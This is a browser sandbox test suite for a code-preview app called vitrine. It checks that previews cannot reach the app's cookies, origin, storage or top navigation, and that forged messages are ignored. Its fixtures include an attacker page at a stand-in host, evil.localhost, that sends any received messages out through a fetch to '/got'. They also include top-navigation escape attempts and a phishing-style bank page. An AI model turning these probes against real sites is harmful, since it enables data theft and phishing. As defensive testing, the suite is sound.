import { toTextFiles } from '@vitrine/project';
import { describe, expect, it } from 'vitest';
import { permissions } from '../src/permissions.ts';
import { setUpChromium, startChromium } from './rig/chromium.ts';
import { pollUntil, TestWorkspace } from './rig/workspace.ts';

const at = setUpChromium();

const files = { 'index.html': '<!doctype html><title>Quiet</title><h1>Quiet</h1>' };
const evil = () => `http://evil.localhost:${at.rig.port}`;
const evilRequests = () =>
  at.rig.requests.filter(({ url }) => url.startsWith(evil()) && !url.endsWith('/endless'));

function saveProject(
  slug: string,
  revision: number,
  all: Record<string, string>,
  credit = { title: slug, author: 'ann' },
): void {
  const served = { id: slug, slug, revision, isPrivate: false, credit };
  at.rig.projects.set(slug, { ...served, files: toTextFiles(Object.entries(all)) });
}

/** A page of another site, served at evil.localhost. It requests /got when it receives a message. */
const evilPage = `<!doctype html><title>evil</title><script>
  const report = ({ data, source }) => source === self || fetch('/got?' + encodeURIComponent(JSON.stringify(data)));
  addEventListener('message', report);
  const { port1, port2 } = new MessageChannel();
  port1.onmessage = report;
  parent.postMessage({ vitrine: 'hello', protocol: 2, shown: { kind: 'boot' }, path: '' }, '*', [port2]);
</script>`;

/** Shared worker that counts its pages and posts through a port that one of them passes to it. */
const sharedWorker = `let met = 0; let left;
onconnect = ({ ports: [page] }) => {
  page.onmessage = ({ data, ports }) => {
    left = ports[0] ?? left;
    if (data) left.postMessage(data);
    page.postMessage('done');
  };
  page.postMessage(met += 1);
};`;

function answerEvil({ withoutFrameSource }: { withoutFrameSource: boolean }) {
  return (address: URL, response: Response) => {
    if (address.pathname === '/endless') return new Response(new ReadableStream());
    if (address.host.startsWith('evil.'))
      return new Response(evilPage, { headers: { 'Content-Type': 'text/html' } });
    if (withoutFrameSource && address.origin === at.rig.appOrigin)
      response.headers.delete('Content-Security-Policy');
    return response;
  };
}

describe('what a preview can’t access', () => {
  it('SB-02 the app’s cookies, in scripts and requests', async () => {
    await at.workspace.run({ files });
    expect(await at.workspace.inResult('document.cookie')).toBe('');
    await at.workspace.inResult(`fetch('/any')`);
    const own = at.rig.requests.filter(({ url }) => url.includes('draft--'));
    expect(own.length).toBeGreaterThan(1);
    expect(own.filter(({ cookie }) => cookie?.includes('session'))).toEqual([]);
    // A session cookie for the whole domain, which the app must never set, would be visible.
    await at.context.addCookies([
      { name: 'session', value: 'x', domain: '.vitrine.localhost', path: '/' },
    ]);
    expect(await at.workspace.inResult('document.cookie')).toBe('session=x');
  });

  it('SB-04 the app’s document', async () => {
    await at.workspace.run({ files });
    for (const probe of ['parent.document', 'top.localStorage', 'parent.eval', 'parent.rig'])
      expect(
        await at.workspace.inResult(
          `(() => { try { ${probe}; return 'reached' } catch (e) { return e.name } })()`,
        ),
      ).toBe('SecurityError');
    expect(await at.workspace.inResult('frameElement')).toBe(null);
    // The same probe can access a same-origin parent.
    expect(
      await at.workspace.inResult(
        `(() => { const f = document.body.appendChild(document.createElement('iframe')); return f.contentWindow.eval('typeof parent.document') })()`,
      ),
    ).toBe('object');
  });

  it('SB-05 SB-06 the app’s origin and top navigation, from its titled frame', async () => {
    await at.workspace.run({ files });
    const frame = at.page.locator('iframe');
    expect(await frame.getAttribute('title')).toBe('Result');
    const flags = (await frame.getAttribute('sandbox'))?.split(' ') ?? [];
    expect(flags).toContain('allow-scripts');
    expect(flags.filter((flag) => /top-navigation|escape|storage-access/.test(flag))).toEqual([]);
    expect(new URL((await frame.getAttribute('src')) ?? '').origin).not.toBe(at.rig.appOrigin);
    expect(await frame.getAttribute('allow')).not.toMatch(
      /camera|microphone|geolocation|clipboard-read/,
    );
  });

  it('SB-05 the app’s origin, even while its frame is being removed', async () => {
    await at.workspace.run({ files });
    await at.page.evaluate(`{
      const frame = document.querySelector('iframe');
      frame.addEventListener('load', () => { rig.left = frame.contentDocument === null ? 'closed' : 'open' });
      preview.stop();
    }`);
    await at.workspace.until('rig.left', (left) => left === 'closed');
  });

  it('SB-06 the URL of the app’s page', async () => {
    at.rig.tamper = answerEvil({ withoutFrameSource: false });
    await at.workspace.run({ files });
    const attempts = [
      `top.location = '${evil()}/a'`,
      `window.open('${evil()}/b', '_top')`,
      `{ const a = document.createElement('a'); a.href = '${evil()}/c'; a.target = '_top'; document.body.append(a); a.click() }`,
      `{ const f = document.createElement('form'); f.action = '${evil()}/d'; f.target = '_top'; document.body.append(f); f.submit() }`,
    ];
    for (const attempt of attempts)
      await at.workspace.inResult(`(() => { try { ${attempt} } catch {} })()`);
    expect((await at.workspace.seen()).status).toBe('running');
    expect(at.page.url()).toBe(`${at.rig.appOrigin}/`);
    expect(evilRequests()).toEqual([]);
    // With the sandbox flag it would navigate.
    await at.page.evaluate(`{
      const frame = document.querySelector('iframe');
      frame.sandbox.add('allow-top-navigation');
      frame.src = frame.src.replace('/__vitrine/boot', '/__vitrine/again');
    }`);
    const go = `(() => { top.location = '${evil()}/e' })()`;
    const tryToGo = async () => (await at.workspace.inResult(go), at.page.url());
    await pollUntil(tryToGo, (address) => address === `${evil()}/e`, 'the page to be left', 10_000);
  });

  it('SB-07 another site: it is stopped, reported, and can be run again', async () => {
    at.rig.tamper = answerEvil({ withoutFrameSource: false });
    // It navigates before it has loaded.
    await at.workspace.run({
      files: { 'index.html': `<h1>One</h1><img src="${evil()}/endless">` },
    });
    await at.workspace.inResult(`(() => { location = '${evil()}/?code' })()`);
    const { message } = await at.workspace.reach('failed');
    expect(message).toContain('navigated away');
    expect(evilRequests()).toEqual([]);
    await at.page.evaluate('preview.run()');
    await at.workspace.reach('running');
    // Without the policy of the app's page the navigation would succeed.
    at.rig.tamper = answerEvil({ withoutFrameSource: true });
    await at.workspace.run({ files });
    await at.workspace.inResult(`(() => { location = '${evil()}/?code' })()`);
    await at.workspace.until('1', () => evilRequests().length > 0);
  });

  it('SB-08 messages after it has become another page', async () => {
    at.rig.tamper = answerEvil({ withoutFrameSource: true });
    await at.workspace.run({ files });
    await at.workspace.inResult(`(() => { location = '${evil()}/' })()`);
    await at.workspace.until('1', () =>
      at.page.frames().some((frame) => frame.url().startsWith(evil())),
    );
    await at.workspace.edit({ 'index.html': '<p>secret source', 'secret.js': 'secret' });
    const got = () => evilRequests().filter(({ url }) => url.includes('/got'));
    await at.workspace.seenUntil(({ status }) => status === 'failed' || got().length > 0);
    expect(got()).toEqual([]);
    expect((await at.workspace.seen()).status).toBe('failed');
  });

  it('SB-13 storage and messages of another project', async () => {
    const databases = 'indexedDB.databases().then((all) => all.map(({ name }) => name).join())';
    const all = { ...files, 'shared.js': sharedWorker };
    await at.workspace.run({ files: all, key: 'draft--one' });
    await at.workspace.inResult(`new Promise((resolve) => {
      localStorage.mark = 'one';
      document.cookie = 'mark=one';
      window.name = 'one';
      indexedDB.open('mark').onsuccess = () => caches.open('mark').then(resolve);
    })`);
    expect(await at.workspace.inResult(databases)).toBe('mark');
    const other = new TestWorkspace(await at.context.newPage(), at.rig);
    await other.run({ files: all, key: 'draft--two' });
    const marks = '[localStorage.mark, document.cookie, window.name].join()';
    expect(await other.inResult(marks)).toBe(',,');
    expect(await other.inResult(`caches.has('mark')`)).toBe(false);
    expect(await other.inResult(databases)).toBe('');

    // A broadcast within the origin: the first project's other page receives it, the second project doesn't.
    const listen = `(() => { window.heard = []; new BroadcastChannel('mark').onmessage = () => heard.push(1) })()`;
    const same = new TestWorkspace(await at.context.newPage(), at.rig);
    await same.run({ files: all, key: 'draft--one' });
    for (const listener of [same, other]) await listener.inResult(listen);
    await at.workspace.inResult(`new BroadcastChannel('mark').postMessage(1)`);
    await same.untilInResult('heard.length', (length) => length === 1);
    expect(await other.inResult('heard.length')).toBe(0);
    expect(await same.inResult(marks)).toContain('one,mark=one');

    // A shared worker counts the pages of its origin.
    const meet = `new Promise((resolve) => { new SharedWorker('/shared.js').port.onmessage = ({ data }) => resolve(data) })`;
    expect(await at.workspace.inResult(meet)).toBe(1);
    expect(await same.inResult(meet)).toBe(2);
    expect(await other.inResult(meet)).toBe(1);
  });

  it('SB-15 service workers other than ours', async () => {
    const slug = 'registered';
    const all = { ...files, 'user.js': 'self.own = true' };
    saveProject(slug, 1, all);
    await at.workspace.run({ files: all, key: `edit--${slug}`, served: { revision: 1 } });
    const register = (address: string) =>
      at.workspace.inResult(
        `navigator.serviceWorker.register(${address}).then(() => 'registered', (e) => e.name)`,
      );
    for (const address of [`'/user.js'`, `'/index.html'`, `'/__vitrine/sw.js/../user.js'`])
      expect(await register(address)).toBe('TypeError');
    expect(
      await register(`URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' }))`),
    ).toBe('TypeError');
    // With a query it is the same script.
    expect(await register(`'/__vitrine/sw.js?evil=1'`)).toBe('registered');
    const scripts = await Promise.all(
      ['', '?evil=1'].map((query) =>
        at.workspace.inResult(`fetch('/__vitrine/sw.js${query}').then((got) => got.text())`),
      ),
    );
    expect(scripts[1]).toBe(scripts[0]);
  });

  const powers =
    'camera microphone geolocation display-capture payment publickey-credentials-get usb serial hid bluetooth midi idle-detection local-fonts storage-access clipboard-read window-management';
  /** Features of this browser that the policy allows. */
  const given = (policy: string) => `(() => {
    const policy = ${policy};
    const known = '${powers}'.split(' ').filter((name) => policy.features().includes(name));
    return known.length > 9 ? known.filter((name) => policy.allowsFeature(name)).join() : 'few are known';
  })()`;

  it('SB-20 powerful features that its frame isn’t allowed', async () => {
    await at.workspace.run({ files });
    // Features that every frame has unless its document or sandbox denies them.
    const everybodys = 'storage-access';
    expect(await at.page.evaluate(given(`document.querySelector('iframe').featurePolicy`))).toBe(
      everybodys,
    );
  });

  it('SB-20 powerful features that no user can allow, even if its frame is allowed them', async () => {
    await at.workspace.run({ files });
    await at.workspace.inResult(`(() => { window.before = 'before' })()`);
    await at.page.evaluate(`{
      const frame = document.querySelector('iframe');
      frame.allow = '${powers}'.split(' ').map((name) => name + ' *').join('; ');
      frame.src = new URL('/', frame.src).href;
    }`);
    await at.workspace.untilInResult('window.before ?? document.title', (now) => now === 'Quiet');
    const names = await at.workspace.inResult(given('document.featurePolicy'));
    const allowable: ReadonlySet<string> = new Set(permissions.map(({ name }) => name));
    expect(
      String(names)
        .split(',')
        .filter((name) => !allowable.has(name)),
    ).toEqual([]);
    const refusal = `document.requestStorageAccess().then(() => 'given', ({ name }) => name)`;
    expect(await at.workspace.inResult(refusal)).toBe('NotAllowedError');
  });
});

describe('what other sites can’t do with a preview', () => {
  it('SB-11 embed it and act as its host', async () => {
    at.rig.tamper = answerEvil({ withoutFrameSource: false });
    const boot = `http://draft--one.vitrine.localhost:${at.rig.port}/__vitrine/boot`;
    const otherPage = await at.context.newPage();
    const got = () => evilRequests().filter(({ url }) => url.includes('/got')).length;
    await otherPage.goto(`${evil()}/`);
    await otherPage.evaluate(
      `{ const frame = document.createElement('iframe'); frame.src = '${boot}'; document.body.append(frame) }`,
    );
    const framed = () => Promise.resolve(otherPage.frames().at(-1)?.url() ?? '');
    await pollUntil(framed, (url) => url.startsWith('chrome-error:'), 'the refusal', 5_000);

    const opened = at.context.waitForEvent('page');
    await otherPage.evaluate(`{ window.preview = window.open('${boot}') }`);
    const popup = await opened;
    await popup.waitForLoadState();
    await otherPage.evaluate(`{
      const file = { path: 'index.html', text: 'evil', mediaType: 'text/html', code: null, module: null };
      const store = { type: 'store', run: '${'a'.repeat(32)}', base: null, version: 0, files: [file], removed: [] };
      for (const data of [{ type: 'install' }, { type: 'relay', message: store }, store])
        preview.postMessage(data, '*', [new MessageChannel().port2]);
    }`);
    expect(
      await popup.evaluate(`(async () => [
        await caches.keys(), (await navigator.serviceWorker.getRegistrations()).length,
      ])()`),
    ).toEqual([[], 0]);
    expect(got()).toBe(0);
  });

  it('SB-17 present it as a site of its own: a tab shows its author and runs nothing', async () => {
    const slug = 'phishingsi';
    const html = '<!doctype html><title>Your bank</title><script>document.title = "ran"</script>';
    const credit = { title: 'Not a <b>bank', author: 'mallory' };
    saveProject(slug, 1, { 'index.html': html }, credit);
    for (const host of [slug, `edit--${slug}`]) {
      const page = await at.context.newPage();
      await page.goto(`http://${host}.vitrine.localhost:${at.rig.port}/?x=1`);
      expect(await page.title()).toBe('Not a <b>bank');
      expect(await page.locator('main').innerText()).toContain('mallory made this page');
      expect(await page.getByRole('link', { name: 'View the code' }).getAttribute('href')).toBe(
        `${at.rig.appOrigin}/p/${slug}`,
      );
      await page.getByRole('link', { name: 'Continue to the page' }).click();
      await page.waitForFunction('document.title === "ran"');
      expect(new URL(page.url()).search).toBe('?x=1');
      await page.close();
    }
  });

  it('SB-17 open a live copy in a tab: it redirects to the app, unless the app shows it', async () => {
    await at.workspace.run({ files });
    await at.workspace.inResult(`navigator.serviceWorker.ready.then(() => {})`);
    const origin = `http://draft--one.vitrine.localhost:${at.rig.port}`;
    const open = async () => {
      const page = await at.context.newPage();
      await page.goto(`${origin}/`);
      const seen = { title: await page.title(), address: page.url() };
      await page.close();
      return seen;
    };
    expect(await open()).toEqual({ title: 'Quiet', address: `${origin}/` });
    await at.page.goto('about:blank');
    expect(await open()).toEqual({ title: 'App', address: `${at.rig.appOrigin}/draft/one` });
  });

  it('SB-19 use it for popups without a click, or for popups without its sandbox', async () => {
    // The driver's browser allows all popups.
    const browser = await startChromium(['--disable-popup-blocking']);
    try {
      const context = await browser.newContext();
      const workspace = new TestWorkspace(await context.newPage(), at.rig);
      const unasked = `<script>document.title = String(window.open('/two.html'))</script>`;
      const two = '<!doctype html><title>Two</title>';
      await workspace.run({ files: { 'index.html': unasked, 'two.html': two } });
      expect(await workspace.inResult('document.title')).toBe('null');

      // Simulates a click.
      const freedom = async () => {
        const opened = context.waitForEvent('page');
        await workspace.inResult(`(() => { window.open('/two.html') })()`);
        const popup = await opened;
        await popup.waitForFunction('document.title === "Two"');
        return popup.evaluate(`screen.orientation.lock('any').catch(({ name }) => name)`);
      };
      expect(await freedom()).toBe('SecurityError');
      await workspace.page.evaluate(`{
        const frame = document.querySelector('iframe');
        frame.sandbox.add('allow-popups-to-escape-sandbox');
        frame.src = new URL('/two.html', frame.src).href;
      }`);
      await workspace.untilInResult('document.title', (title) => title === 'Two');
      expect(await freedom()).toBe('NotSupportedError');
    } finally {
      await browser.close();
    }
  });
});

describe('messages', () => {
  const forged = `{ vitrine: 'hello', protocol: 2, shown: { kind: 'run', run: 'x', version: 0 }, path: '' }`;

  it('SB-09 from other windows have no effect, whatever their number and content', async () => {
    at.rig.tamper = answerEvil({ withoutFrameSource: false });
    const otherPage = await at.context.newPage();
    await otherPage.goto(`${evil()}/`);
    const opened = at.context.waitForEvent('page');
    await otherPage.evaluate(`{ window.app = window.open('${at.rig.appOrigin}/') }`);
    const page = await opened;
    const errors: unknown[] = [];
    page.on('pageerror', (error) => errors.push(error));
    const workspace = new TestWorkspace(page, at.rig);
    await workspace.until('!!window.rig', (ready) => ready === true);
    await workspace.startHere({ files });
    await workspace.reach('running');
    const before = (await workspace.seen()).states.length;
    await page.evaluate(`{ rig.heard = 0; addEventListener('message', () => { rig.heard += 1 }) }`);
    await otherPage.evaluate(`{
      const values = [null, 1, 'x', {}, [], ${forged}, { vitrine: 'hello' }, { __proto__: { vitrine: 'hello' } }, { vitrine: 'hello', protocol: 2, shown: null }, { type: 'painted' }, { type: 'unloading' }, { type: 'service-worker-unavailable' }];
      for (let i = 0; i < 10000; i += 1) app.postMessage(values[i % values.length], '*', [new MessageChannel().port1]);
      app.postMessage({ vitrine: 'hello', path: 'x'.repeat(1e7) }, '*');
    }`);
    await workspace.until('rig.heard', (heard) => heard === 10_001);
    const { states, status } = await workspace.seen();
    expect([states.length, status, errors]).toEqual([before, 'running', []]);
  });

  it('SB-10 from a frame within the preview are rejected, from the preview itself accepted', async () => {
    await at.workspace.run({ files });
    const before = (await at.workspace.seen()).states.length;
    const say = `top.postMessage({ vitrine: 'hello', protocol: 2, shown: { kind: 'saved', revision: 99 }, path: '' }, '${at.rig.appOrigin}', [new MessageChannel().port2])`;
    await at.workspace.inResult(`(() => {
      const nested = document.body.appendChild(document.createElement('iframe'));
      nested.contentWindow.eval(${JSON.stringify(say)});
      return new Promise((resolve) => setTimeout(resolve, 100));
    })()`);
    expect((await at.workspace.seen()).states.length).toBe(before);
    await at.workspace.inResult(`(() => { ${say} })()`);
    await at.workspace.seenUntil(
      ({ states }) => states.length > before,
      'the hello to be accepted',
    );
  });
});

describe('a document that was replaced by another', () => {
  /** User code that passes the port of our script to a worker. */
  const leavePort = `new Promise((resolve) => {
    const { postMessage } = MessagePort.prototype;
    let port;
    MessagePort.prototype.postMessage = function (...sent) { port = this; postMessage.apply(this, sent); };
    console.log('');
    MessagePort.prototype.postMessage = postMessage;
    const worker = new SharedWorker('/shared.js').port;
    worker.onmessage = ({ data }) => data === 'done' && resolve();
    worker.postMessage(null, [port]);
  })`;
  const say = (word: string) => `new Promise((resolve) => {
    const values = [{ type: 'text', text: '${word}' }];
    const entry = { method: 'log', values, time: 0, path: '', line: 0, column: 0 };
    const worker = new SharedWorker('/shared.js').port;
    worker.onmessage = ({ data }) => data === 'done' && resolve();
    worker.postMessage({ type: 'console', entry });
  })`;
  const words = async () => (await at.workspace.seen()).lines.map(({ values }) => values[0]);

  it('SB-10 is no longer trusted, even if its port still works', async () => {
    const all = { ...files, 'shared.js': sharedWorker };
    await at.workspace.run({ files: all });
    const other = new TestWorkspace(await at.context.newPage(), at.rig);
    await other.run({ files: all });
    await at.workspace.inResult(leavePort);
    await other.inResult(say('early'));
    const early = { type: 'text', text: 'early' };
    await at.workspace.seenUntil(({ lines }) => lines.at(-1)?.values[0]?.type === 'text');
    expect(await words()).toContainEqual(early);

    await at.page.evaluate('preview.stop()');
    await at.page.evaluate('preview.run()');
    await at.workspace.reach('running');
    await other.inResult(say('late'));
    await at.workspace.inResult(`console.warn('after')`);
    await at.workspace.seenUntil(({ lines }) => lines.at(-1)?.method === 'warn');
    expect(await words()).not.toContainEqual({ type: 'text', text: 'late' });
  });
});
